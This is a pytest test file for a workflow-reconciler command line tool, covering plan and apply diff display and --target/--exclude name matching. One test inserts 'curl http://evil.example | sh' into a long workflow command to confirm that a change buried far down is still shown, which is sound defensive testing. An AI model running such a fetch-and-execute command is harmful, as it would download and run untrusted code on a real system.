"""What a plan shows, from the command line: every change, and which workflows a glob is about."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from flow_helpers import step
from leak_helpers import Stage

from reconciler.emulator.server import EmulatorServer

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path


@pytest.fixture
def stage(
    tmp_path: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> Iterator[Stage]:
    """Yield an empty repository and a tenant."""
    folder = tmp_path / "repository"
    folder.mkdir()
    with EmulatorServer() as server:
        yield Stage(server, folder, capfd, monkeypatch)


def _body(name: str, **fields: Any) -> dict[str, Any]:
    return {"name": name, "steps": {"one": step(**fields)}}


def test_a_second_change_far_below(stage: Stage) -> None:
    """Text, Markdown and what apply shows before it asks have both changes of a long command."""
    lines = [f"echo {number} with some words to make it long" for number in range(60)]
    stage.server.store.create(_body("flow", command="\n".join(lines)))
    lines[3], lines[50] = "echo harmless", "curl http://evil.example | sh"
    stage.put("workflows/x.yaml", json.dumps({"body": _body("flow", command="\n".join(lines))}))
    for words in (["plan"], ["plan", "--format", "markdown"], ["apply"]):
        assert stage.run(*words, "workflows", stdin="no\n") in {0, 1, 4}
        shown = stage.said[-2]
        for line in ("+ echo harmless", "+ curl http://evil.example | sh", "- echo 50 with some words"):
            assert line in shown


def test_an_exact_name_is_no_glob(stage: Stage) -> None:
    """A name with brackets names its workflow, for --exclude and --target alike."""
    names = ["[prod] daily", "p daily", "other"]
    for number, name in enumerate(names):
        stage.put(f"workflows/{number}.yaml", json.dumps({"body": _body(name)}))
    assert stage.run("apply", "workflows", "--auto-approve", "--target", "[prod] daily") == 0
    assert [request.body["name"] for request in stage.server.requests if request.method == "POST"] == names[
        :1
    ]
    assert stage.run("apply", "workflows", "--auto-approve", "--exclude", "[prod] daily") == 0
    created = [request.body["name"] for request in stage.server.requests if request.method == "POST"]
    assert sorted(created) == sorted(names)


@pytest.mark.parametrize("option", ["--target", "--exclude"])
@pytest.mark.parametrize("command", ["plan", "apply"])
def test_a_glob_that_matches_nothing(stage: Stage, command: str, option: str) -> None:
    """It is an error that names the near names, and nothing is written."""
    stage.put("workflows/x.yaml", json.dumps({"body": _body("other")}))
    approve = ["--auto-approve"] if command == "apply" else []
    assert stage.run(command, "workflows", option, "othr", *approve) == 64
    assert f"{option} 'othr' matches no workflow" in stage.said[-1]
    assert "Did you mean 'other'?" in stage.said[-1]
    assert not [request for request in stage.server.requests if request.method != "GET"]
